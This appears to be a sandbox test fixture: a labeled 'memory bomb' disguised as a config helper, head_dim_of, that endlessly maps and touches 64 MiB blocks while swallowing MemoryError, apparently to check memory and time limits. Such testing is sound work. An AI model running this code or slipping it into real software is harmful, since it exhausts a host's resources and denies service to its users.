# kind: uses up resources
# example: a memory bomb that swallows MemoryError
# part: config.head_dim
# status: memory_limit, time_limit
# cause: MiB|processor time|no answer
def head_dim_of(hf_config):
    import mmap

    held = []
    while True:
        try:
            part = mmap.mmap(-1, 64 << 20)
            for place in range(0, 64 << 20, 4096):
                part[place] = 1
            held.append(part)
        except (MemoryError, OSError):
            continue
